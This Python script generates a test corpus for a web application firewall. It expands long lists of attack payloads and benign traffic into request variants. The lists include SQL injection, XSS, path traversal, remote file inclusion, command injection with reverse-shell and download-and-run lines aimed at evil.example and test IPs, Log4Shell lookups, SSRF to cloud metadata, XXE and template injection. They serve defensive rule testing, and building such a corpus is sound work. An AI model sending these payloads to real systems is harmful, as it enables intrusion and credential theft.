#!/usr/bin/env python3
"""Writes the WAF corpus (attacks/<group>.jsonl, benign/*.jsonl) from the payload
lists below, each attack in several encodings and places. The output is checked in;
rerun after editing: `python3 gateway/waf/corpus/gen.py`.

Each line is the replay JSON-lines format (see tollgate_waf::replay) plus:
  "group": the group expected to catch it (attacks), "set": "a" (written first, used
  while writing rules) or "b" (written afterwards as a held-out check), "note".
Deterministic: no randomness beyond a fixed seed.
"""
import base64
import json
import os
import random
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
rnd = random.Random(16)

UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/2.0",
    "PostmanRuntime/7.37.3",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]


def q(s):
    return urllib.parse.quote(s, safe="")


def q_min(s):
    # What a browser leaves readable: only what breaks the URL is encoded.
    return "".join(c if c.isalnum() or c in "-_.~!$'()*,;:@/?=<>\"`{}[]|\\^" else q(c) for c in s).replace("&", "%26").replace("#", "%23").replace("+", "%2B")


def mixed_case(s):
    return "".join(c.upper() if rnd.random() < 0.5 else c.lower() for c in s)


def base_headers(ua=None):
    return {
        "Host": "shop.example.com",
        "User-Agent": ua or rnd.choice(UA_BROWSER[:5]),
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language": "en-US,en;q=0.9",
        "Accept-Encoding": "gzip, deflate, br",
    }


def req(method, target, headers=None, body=None, **extra):
    r = {"method": method, "target": target, "headers": headers or base_headers()}
    if body is not None:
        r["body"] = body
    r.update(extra)
    return r


PARAMS = ["q", "id", "search", "name", "page", "user", "item", "cat", "file", "url", "redirect", "comment", "lang", "sort", "filter"]


def variants(payload, n, kinds=None):
    """`n` placements of a value payload, rotating through encodings and places."""
    kinds = kinds or ["query", "query_min", "double", "form", "json", "header", "cookie", "mixed", "multipart", "path"]
    out = []
    start = rnd.randrange(len(kinds))
    for i in range(n):
        kind = kinds[(start + i) % len(kinds)]
        p = rnd.choice(PARAMS)
        h = base_headers()
        if kind == "query":
            out.append(req("GET", f"/products?{p}={q(payload)}&limit=10", h, note=kind))
        elif kind == "query_min":
            out.append(req("GET", f"/search?{p}={q_min(payload)}", h, note=kind))
        elif kind == "double":
            out.append(req("GET", f"/view?{p}={q(q(payload))}", h, note=kind))
        elif kind == "mixed":
            out.append(req("GET", f"/list?{p}={q(mixed_case(payload))}", h, note=kind))
        elif kind == "form":
            h["Content-Type"] = "application/x-www-form-urlencoded"
            out.append(req("POST", "/account/update", h, f"email=a%40b.com&{p}={q(payload)}", note=kind))
        elif kind == "json":
            h["Content-Type"] = "application/json"
            body = json.dumps({"order": {"note": payload, "qty": 2}, "tags": ["x", payload][-1:]})
            out.append(req("POST", "/api/v1/orders", h, body, note=kind))
        elif kind == "header":
            name = rnd.choice(["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "X-Custom-Header"])
            h[name] = payload if name != "Referer" else "https://shop.example.com/?" + p + "=" + payload
            out.append(req("GET", "/", h, note=kind + ":" + name))
        elif kind == "cookie":
            h["Cookie"] = f"session=abc123; {p}={q(payload)}; theme=dark"
            out.append(req("GET", "/home", h, note=kind))
        elif kind == "multipart":
            h["Content-Type"] = "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"
            body = (
                "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
                f'Content-Disposition: form-data; name="{p}"\r\n\r\n{payload}\r\n'
                "------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
            )
            out.append(req("POST", "/upload", h, body, note=kind))
        elif kind == "path":
            out.append(req("GET", f"/api/items/{q(payload)}", h, note=kind))
    return out


# ---------------------------------------------------------------------------
# Attacks. Set "a" was written first; set "b" afterwards as a held-out check.
ATTACKS = {
    "sqli": {
        "a": [
            "1' OR '1'='1",
            "' OR 1=1--",
            "admin'--",
            "1 UNION SELECT username, password FROM users--",
            "1' AND SLEEP(5)--",
            "1; DROP TABLE users--",
            "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
            "1' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
            "1/**/UNION/**/SELECT/**/1,2,3",
            "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
            "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
            "'; EXEC xp_cmdshell('dir')--",
            "1' ORDER BY 3--",
            "\" or \"\"=\"",
            "1)) OR ((1=1",
            "-1 UNION SELECT 1,@@version,3",
        ],
        "b": [
            "' or 'x'='x",
            "1' and '1'='2' union select user(),2--",
            "10 AND 1=1",
            "'; WAITFOR DELAY '0:0:5'--",
            "1' AND (SELECT 1 FROM pg_sleep(5))--",
            "admin\" --",
            "1%' AND 1=0 UNION SELECT load_file('/etc/passwd')--",
            "') or ('a'='a",
            "1 OR 2>1",
            "1'||(SELECT CHR(65)||CHR(66) FROM dual)||'",
            "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
            "'-(select 1 from (select sleep(3))x)-'",
            "1 AND updatexml(1,concat(0x3a,user()),1)",
            "ORDER BY 1,2,3,4,5--",
            "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)--",
            "1;SELECT pg_sleep(10)",
        ],
    },
    "xss": {
        "a": [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.cookie)>",
            "\"><svg/onload=alert(1)>",
            "javascript:alert(1)",
            "<iframe src=\"javascript:alert('xss')\"></iframe>",
            "<body onload=alert('XSS')>",
            "'-alert(1)-'",
            "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
            "<ScRiPt>prompt(1)</sCrIpT>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<details open ontoggle=alert(1)>",
            "<svg><script>alert&#40;1&#41;</script>",
            "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ],
        "b": [
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=\"alert(1)\">",
            "\";alert(String.fromCharCode(88,83,83));//",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
            "<marquee onstart=alert(1)>",
            "</textarea><script>alert(document.domain)</script>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
            "<embed src=javascript:alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
            "'><img src=1 onmouseover=confirm(1)>",
            "<base href=\"javascript:alert(1)//\">",
            "<form action=javascript:alert(1)><input type=submit>",
        ],
    },
    "lfi": {
        "a": [
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "....//....//....//etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/shadow",
            "../../../../../../proc/self/environ",
            "file/../../../../etc/hosts",
            "../../../../etc/passwd%00.jpg",
            "..%c0%af..%c0%afetc%c0%afpasswd",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
        ],
        "b": [
            "/../../../../../../../../boot.ini",
            "..%252f..%252f..%252fetc%252fpasswd",
            "../../../../var/log/apache2/access.log",
            "....\\\\....\\\\....\\\\windows\\\\system.ini",
            "/proc/self/cmdline",
            "../../../../home/user/.ssh/id_rsa",
            "%2e%2e/%2e%2e/%2e%2e/etc/group",
            "../WEB-INF/web.xml",
            "..;/..;/..;/etc/passwd",
            "../../../../../../root/.bash_history",
        ],
    },
    "rfi": {
        "a": [
            ("page", "http://evil.example/shell.txt?"),
            ("file", "http://203.0.113.66/backdoor.php"),
            ("include", "https://attacker.example/c99.txt"),
            ("template", "ftp://203.0.113.9/payload.txt"),
            ("path", "http://evil.example/x.php%00"),
            ("lang", "http://198.51.100.7/en.txt??"),
        ],
        "b": [
            ("mosConfig_absolute_path", "http://evil.example/r57.txt?"),
            ("dir", "https://198.51.100.23/inc/shell.txt"),
            ("module", "http://attacker.example/mod.php?"),
            ("q", "http://203.0.113.5/x.txt?"),
            ("conf", "\\\\198.51.100.9\\share\\evil.php"),
            ("theme", "http://evil.example/theme.inc"),
        ],
    },
    "rce": {
        "a": [
            "; cat /etc/passwd",
            "| id",
            "&& whoami",
            "`id`",
            "$(whoami)",
            "127.0.0.1; ls -la",
            ";cat${IFS}/etc/passwd",
            "|| ping -c 3 203.0.113.5",
            "; wget http://evil.example/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
            "& type C:\\Windows\\win.ini",
            "| powershell -enc SQBFAFgA",
            "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "x; c'a't /e't'c/pa's'swd",
        ],
        "b": [
            "%0aid",
            "1|nc -e /bin/sh 203.0.113.8 4444",
            "; curl http://evil.example/$(whoami)",
            "&& cmd /c dir",
            "| /usr/bin/id",
            "; sleep 10 #",
            "127.0.0.1 && python -c 'import os;os.system(\"id\")'",
            "() { _; } >_[$($())] { echo vulnerable; }",
            ";{cat,/etc/passwd}",
            "a;u\\n\\a\\m\\e -a",
            "| net user",
            "$(curl -s http://203.0.113.5/s|sh)",
            "; rm -rf /tmp/*",
            "& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
        ],
    },
    "php": {
        "a": [
            "php://filter/convert.base64-encode/resource=index.php",
            "<?php system($_GET['cmd']); ?>",
            "phar://uploads/avatar.jpg/test",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
            "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
            "php://input",
            "expect://id",
            "<?= `id` ?>",
            "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
            "phpinfo()",
        ],
        "b": [
            "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
            "zip://uploads/x.zip#shell.php",
            "shell_exec('ls -la');",
            "assert($_POST['x']);",
            "php://filter/read=string.rot13/resource=config.php",
            "a:2:{i:0;O:9:\"Exploit12\":0:{}i:1;s:1:\"x\";}",
            "passthru('cat /etc/passwd');",
            "<?php echo file_get_contents('/etc/passwd'); ?>",
            "preg_replace('/.*/e', 'system(\"id\")', '')",
            "glob://*",
        ],
    },
    "java": {
        "a": [
            "${jndi:ldap://evil.example:1389/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/x}",
            "${jndi:dns://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "#{''.getClass().forName('java.lang.Runtime')}",
            "${T(java.lang.System).getenv()}",
        ],
        "b": [
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
            "${jNdI:rMi://203.0.113.5:1099/Exploit}",
            "${${upper:j}${upper:n}di:ldaps://evil.example/z}",
            "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594",
            "class.classLoader.URLs[0]=http://evil.example/",
            "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}",
            "new java.lang.ProcessBuilder('id').start()",
            "${pageContext.request.getSession().setAttribute('a',1)}",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\",\"autoCommit\":true}",
            "${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a",
        ],
    },
    "nodejs": {
        "a": [
            "{\"__proto__\":{\"isAdmin\":true}}",
            "require('child_process').exec('id')",
            "process.mainModule.require('child_process').execSync('id')",
            "constructor.prototype.polluted=1",
            "this.constructor.constructor('return process')().exit()",
            "res.end(require('fs').readFileSync('/etc/passwd'))",
        ],
        "b": [
            "global.process.mainModule.constructor._load('child_process').execSync('id')",
            "{\"constructor\":{\"prototype\":{\"admin\":true}}}",
            "require('child_process').spawnSync('ls')",
            "__proto__[isAdmin]=true",
            "process.kill(process.pid)",
            "[].constructor.constructor('return this.process')()",
        ],
    },
    "ssti": {
        "a": [
            "{{7*7}}",
            "{{config.items()}}",
            "${7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{% import os %}{{ os.popen('id').read() }}",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
            "#{7*7}",
        ],
        "b": [
            "{{ 7 * '7' }}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
            "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
            "#set($x = 7 * 7)$x",
            "{{lipsum.__globals__['os'].popen('id').read()}}",
            "<%= system('id') %>",
            "{php}echo `id`;{/php}",
            "{{#with \"s\" as |string|}}{{/with}}",
        ],
    },
    "ssrf": {
        "a": [
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
            "http://2852039166/latest/meta-data/",
            "http://0xa9fea9fe/",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "file:///etc/passwd",
            "http://127.0.0.1:8080/admin",
            "dict://localhost:11211/stats",
        ],
        "b": [
            "http://0251.0376.0251.0376/latest/user-data",
            "http://169.254.169.254.nip.io/",
            "http://[0:0:0:0:0:ffff:169.254.169.254]/",
            "http://user@169.254.169.254/computeMetadata/v1/",
            "http://localhost/server-status",
            "http://0x7f.1/",
            "http://[::1]:22/",
            "http://100.100.100.200/latest/meta-data/",
            "http://169.254.43518/",
        ],
    },
}

# Groups whose attacks need their own shape.
def special_attacks():
    out = []

    def add(group, s, r):
        r["group"] = group
        r["set"] = s
        out.append(r)

    # XXE: XML bodies, and XML in arguments.
    xxe = {
        "a": [
            '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
            '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><data>1</data>',
            '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//EN" "http://evil.example/x">]><r>&x;</r>',
            '<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://evil.example/order.dtd"><order><id>1</id></order>',
            '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></root>',
        ],
        "b": [
            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY bar SYSTEM "file:///c:/windows/win.ini" >]><foo>&bar;</foo>',
            '<!DOCTYPE svg [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname"> %a;]><svg/>',
            '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 SYSTEM "expect://id">]><lolz>&lol2;</lolz>',
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]><soap:Body>&e;</soap:Body></soap:Envelope>',
            '<?xml version="1.0"?><!DOCTYPE a PUBLIC "-//A//DTD A//EN" "http://evil.example/a.dtd"><a/>',
        ],
    }
    for s, items in xxe.items():
        for i, x in enumerate(items):
            h = base_headers()
            h["Content-Type"] = ["application/xml", "text/xml", "application/soap+xml"][i % 3]
            add("xxe", s, req("POST", "/api/import", h, x, note="xml body"))
            add("xxe", s, req("GET", "/parse?xml=" + q(x), base_headers(), note="xml in query"))

    # NoSQL injection.
    nos = {
        "a": [
            ("json", {"username": "admin", "password": {"$ne": None}}),
            ("json", {"username": {"$gt": ""}, "password": {"$gt": ""}}),
            ("query", "username[$ne]=x&password[$ne]=x"),
            ("query", "user=admin&pass[$regex]=^a"),
            ("json", {"$where": "this.password.match(/^a/)"}),
            ("query", "q={\"$where\":\"sleep(5000)\"}"),
            ("form", "login[$exists]=true&password[$ne]=1"),
        ],
        "b": [
            ("json", {"email": {"$regex": ".*"}, "password": {"$exists": True}}),
            ("query", "id[$in][]=1&id[$in][]=2&role[$nin][]=user"),
            ("json", {"filter": {"$or": [{"a": 1}, {"b": {"$ne": 0}}]}}),
            ("query", "search=' || '1'=='1"),
            ("json", {"username": "admin", "password": "x'; return true; var a='"}),
            ("form", "user[$gt]=&pass[$gt]="),
            ("query", "filter=%7B%22price%22%3A%7B%22%24lt%22%3A0%7D%7D"),
        ],
    }
    for s, items in nos.items():
        for kind, v in items:
            h = base_headers()
            if kind == "json":
                h["Content-Type"] = "application/json"
                add("nosqli", s, req("POST", "/api/login", h, json.dumps(v), note=kind))
            elif kind == "form":
                h["Content-Type"] = "application/x-www-form-urlencoded"
                add("nosqli", s, req("POST", "/login", h, v, note=kind))
            else:
                # Encode values but keep the structure of the query.
                parts = []
                for pair in v.split("&"):
                    k, _, val = pair.partition("=")
                    parts.append(k + "=" + q(val))
                add("nosqli", s, req("GET", "/api/users?" + "&".join(parts), h, note=kind))
                add("nosqli", s, req("GET", "/api/users?" + "&".join(q(p.split("=")[0]) + "=" + p.split("=", 1)[1] for p in parts), h, note="encoded names"))

    # Scanners: user agents and probe paths.
    sc_ua = {
        "a": ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
              "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"],
        "b": ["Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
              "Mozilla/5.0 (compatible; Acunetix-Scanner)", "Wfuzz/3.1.0", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Netsparker)"],
    }
    sc_path = {
        "a": ["/.env", "/.git/config", "/wp-admin/setup-config.php", "/phpmyadmin/", "/.aws/credentials", "/server-status", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
        "b": ["/.env.production", "/.git/HEAD", "/pma/index.php", "/actuator/env", "/backup.sql", "/.DS_Store", "/wp-config.php.bak", "/adminer.php"],
    }
    for s in "ab":
        for ua in sc_ua[s]:
            add("scanners", s, req("GET", "/", base_headers(ua), note="user agent"))
            add("scanners", s, req("GET", "/index.php?id=1", base_headers(ua), note="user agent"))
        for p in sc_path[s]:
            add("scanners", s, req("GET", p, base_headers(UA_BROWSER[7]), note="probe path"))

    # Session fixation.
    sf = {
        "a": [
            ("GET", "/login?PHPSESSID=attacker123456", None, None),
            ("GET", "/app;jsessionid=ABCDEF0123456789", None, None),
            ("GET", "/?q=<meta http-equiv=\"Set-Cookie\" content=\"sessionid=evil\">", None, None),
            ("GET", "/?x=document.cookie=\"JSESSIONID=evil; path=/; domain=.example.com\"", None, None),
            ("GET", "/index.php?PHPSESSID=fixed&page=1", "https://evil.example/", None),
        ],
        "b": [
            ("GET", "/account?jsessionid=1234abcd", None, None),
            ("POST", "/login", None, "user=a&pass=b&sessionid=0123456789abcdef"),
            ("GET", "/?name=%0d%0aSet-Cookie:%20sid=evil", None, None),
            ("GET", "/shop;JSESSIONID=E2F1A9?item=3", "https://phish.example/x", None),
            ("GET", "/?lang=en&ASPSESSIONIDQAQBCBTD=FIXED", None, None),
        ],
    }
    for s, items in sf.items():
        for method, target, referer, body in items:
            h = base_headers()
            if referer:
                h["Referer"] = referer
            if body:
                h["Content-Type"] = "application/x-www-form-urlencoded"
            if "?" in target:
                path, _, qs = target.partition("?")
                enc = "&".join(k + "=" + q(urllib.parse.unquote(v)) for k, _, v in (p.partition("=") for p in qs.split("&")))
                target = path + "?" + enc
            add("session_fixation", s, req(method, target, h, body, note="session"))

    # Protocol: duplicate Host, NUL, too many arguments, method allow-list is off by default.
    proto = {
        "a": [
            req("GET", "/", [["Host", "a.example"], ["Host", "b.example"], ["User-Agent", UA_BROWSER[0]]], note="duplicate host"),
            req("GET", "/download?file=report.pdf%00.php", base_headers(), note="nul"),
            req("GET", "/?" + "&".join(f"a{i}=1" for i in range(1200)), base_headers(), note="too many args"),
            req("GET", "/?a=%0d%0aLocation:%20http://evil.example", base_headers(), note="response splitting"),
        ],
        "b": [
            req("GET", "/x", [["Host", "shop.example.com"], ["host", "evil.example"]], note="duplicate host"),
            req("POST", "/api", dict(base_headers(), **{"Content-Type": "application/x-www-form-urlencoded"}), "&".join(f"k{i}=v" for i in range(1500)), note="too many args"),
            req("GET", "/page?title=abc%00def%00", base_headers(), note="nul"),
            req("GET", "/r?u=x%0d%0a%0d%0a<html><script>alert(1)</script>", base_headers(), note="response splitting"),
        ],
    }
    for s, items in proto.items():
        for r in items:
            add("protocol", s, r)
    return out


def attacks():
    out = []
    for group, sets in ATTACKS.items():
        for s, payloads in sets.items():
            for p in payloads:
                if group == "rfi":
                    name, url = p
                    h = base_headers()
                    for r in [
                        req("GET", f"/index.php?{name}={q(url)}", h, note="query"),
                        req("GET", f"/index.php?{name}={q_min(url)}", h, note="query_min"),
                        req("POST", "/index.php", dict(h, **{"Content-Type": "application/x-www-form-urlencoded"}), f"{name}={q(url)}", note="form"),
                    ]:
                        r["group"], r["set"] = group, s
                        out.append(r)
                    continue
                kinds = None
                if group in ("ssrf",):
                    kinds = ["query", "query_min", "form", "json", "double", "multipart"]
                if group == "java" and p.startswith("class."):
                    name, _, val = p.partition("=")
                    for r in [
                        req("GET", f"/?{name}={q(val)}", base_headers(), note="query name"),
                        req("POST", "/", dict(base_headers(), **{"Content-Type": "application/x-www-form-urlencoded"}), f"{q(name)}={q(val)}", note="form name"),
                    ]:
                        r["group"], r["set"] = group, s
                        out.append(r)
                    continue
                if group == "nodejs" and p.startswith("{"):
                    h = base_headers()
                    h["Content-Type"] = "application/json"
                    for r in [req("POST", "/api/settings", h, p, note="json keys"), req("PUT", "/api/users/7", h, json.dumps({"profile": json.loads(p)}), note="nested keys")]:
                        r["group"], r["set"] = group, s
                        out.append(r)
                    continue
                if group == "nodejs" and p.startswith("__proto__["):
                    for r in [req("GET", "/api/items?" + p, base_headers(), note="query name")]:
                        r["group"], r["set"] = group, s
                        out.append(r)
                    continue
                for r in variants(p, 4, kinds):
                    r["group"], r["set"] = group, s
                    out.append(r)
    return out + special_attacks()


# ---------------------------------------------------------------------------
# Benign traffic: the false positives users hate most, and ordinary requests.
PROSE = {
    "a": [
        "50% off -- today only",
        "Run `ls -la` to list the files, then `cd ..` to go back.",
        "I keep my configs in /etc and select the best option from the menu.",
        "Renée O'Connor",
        "O'Brien",
        "time warner cable",
        "Select the best option from the menu and click Update.",
        "Please delete my account and drop me an email when it's done.",
        "Tom & Jerry; the best cartoon ever",
        "Is 5 > 3? Yes, and 2 < 4 too.",
        "Call me at +1 (555) 123-4567 or email john.doe+news@example.com",
        "We're open Mon–Fri, 9:00–17:00 (closed on holidays)",
        "The union of two sets A and B is the set of elements in A or B.",
        "I'd like to order 2x \"Large\" pizzas -- extra cheese, please!",
        "Use the command line: git commit -m 'fix bug' && git push",
        "Ça va? Très bien, merci. À bientôt!",
        "Müller & Söhne GmbH, Königstraße 12, München",
        "你好，世界！我们明天见。",
        "مرحبا بالعالم، كيف حالك اليوم؟",
        "Привет, как дела? Всё хорошо.",
        "日本語のテキストです。よろしくお願いします。",
        "नमस्ते, आप कैसे हैं?",
        "Great product!!! 5/5 would buy again :) <3",
        "My password hint: it's my dog's name + year",
        "Where did you go?! -- Nowhere, really.",
        "1 + 1 = 2, 2 * 3 = 6, and 10 / 2 = 5",
        "He said \"hello\" and she said 'goodbye'.",
        "Drop-off point: Gate 4 (near the café)",
        "Script for the school play: Act 1, Scene 2",
        "If x = 1 and y = 2 then x + y = 3",
    ],
    "b": [
        "Sale: 30% off everything -- ends Sunday!",
        "To see hidden files type `ls -a` in the terminal.",
        "Files under /etc/nginx are managed by Ansible; select a role from the list.",
        "D'Angelo O'Neill-Smith",
        "Zoë D'Souza",
        "AT&T and Time Warner merged in 2018.",
        "Please select one: (a) yes, (b) no, (c) maybe",
        "From: the sales team; To: all; Subject: update",
        "Order #1234 — shipped via UPS; tracking 1Z999AA10123456784",
        "Set the value to 'true' or 'false' in settings.",
        "Insert coin, select drink, and enjoy!",
        "We moved from Oracle to PostgreSQL last year; queries are faster now.",
        "Who's on first? What's on second? I don't know's on third.",
        "Shipping to: 123 Main St., Apt #4, Springfield, IL 62704",
        "Ελληνικά: Καλημέρα σας!",
        "Ünïcödé tëxt wïth àccénts",
        "한국어 텍스트입니다.",
        "עברית: שלום עולם",
        "Türkçe: Günaydın, nasılsınız?",
        "Remember: <b> is bold and <i> is italic in HTML.",
        "The script runs every night at 2am; logs go to /var/tmp/app.log",
        "version 2.3.1 (build 456) released 2024-05-01",
        "Meeting notes: action items -> Alice; follow-up -> Bob",
        "Price: $19.99 (was $24.99) -- save 20%",
        "Email me at jane_o'reilly@example.org",
        "Let's meet @ 5pm; bring snacks & drinks",
        "Wait... what? -- that's not right!",
        "Use ../images/logo.png as the relative link",
        "My cat's name is Whiskers & my dog's is Rex.",
        "Or maybe we should just order in tonight?",
    ],
}

MARKDOWN = {
    "a": [
        "# Install\n\n```bash\nnpm install --save my-lib\nnpm run build\n```\n\nThen run `npm start`.",
        "## Notes\n\n- item one\n- item *two*\n- [link](https://example.com/docs?page=2&lang=en)\n\n> quoted text",
        "To debug, run:\n\n```\nls -la /var/log\ntail -f app.log | grep ERROR\n```",
    ],
    "b": [
        "### Query example\n\n```sql\nSELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;\n```\n\nThis lists German customers.",
        "Steps:\n1. Open settings\n2. Click **Save**\n3. Reload with `Ctrl+R`\n\n![screenshot](https://cdn.example.com/img/s1.png)",
        "```python\nimport os\nfor f in os.listdir('.'):\n    print(f)\n```",
    ],
}

CODE = {
    "a": [
        "function add(a, b) { return a + b; }\nconsole.log(add(1, 2));",
        "const x = items.filter(i => i.price > 10).map(i => i.name);",
        "def greet(name):\n    return f\"Hello, {name}!\"",
        "SELECT id, name FROM users WHERE id = ? -- parameterized",
        "if (a && b || c) { doSomething(); }",
    ],
    "b": [
        "for (let i = 0; i < 10; i++) { total += i; }",
        "public static void main(String[] args) { System.out.println(\"hi\"); }",
        "SELECT COUNT(*) FROM orders GROUP BY status;",
        "curl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json'",
        "<div class=\"card\"><p>Hello</p></div>",
    ],
}

GRAPHQL = {
    "a": [
        "query { user(id: 1) { name email } }",
        "query GetPosts($first: Int!) { posts(first: $first) { edges { node { id title } } } }",
        "mutation { addComment(postId: \"42\", text: \"Nice!\") { id } }",
    ],
    "b": [
        "{ viewer { login repositories(first: 5) { nodes { name } } } }",
        "query Search($q: String) { search(query: $q, type: REPOSITORY, first: 3) { repositoryCount } }",
        "mutation UpdateUser($input: UserInput!) { updateUser(input: $input) { ok } }",
    ],
}

VALUES = {
    "a": [
        "550e8400-e29b-41d4-a716-446655440000", "2024-05-17T10:15:30Z", "https://www.example.com/products/shoes?color=red&size=42",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0Lg==", "john.smith@example.co.uk", "+44 20 7946 0958", "#ff8800", "1,234.56", "a/b/c.txt",
        "sort=price&dir=desc", "C++ & C#", "50%", "-12.5", "true", "N/A", "Q&A", "rock'n'roll", "e-mail", "100% cotton",
    ],
    "b": [
        "f47ac10b-58cc-4372-a567-0e02b2c3d479", "17/05/2024", "https://docs.example.org/guide/intro#section-2", "mailto:info@example.com",
        "dGhlIHF1aWNrIGJyb3duIGZveA==", "ref:refs/heads/main", "image/png", "192.168.1.10", "en-US,en;q=0.9", "O(n log n)",
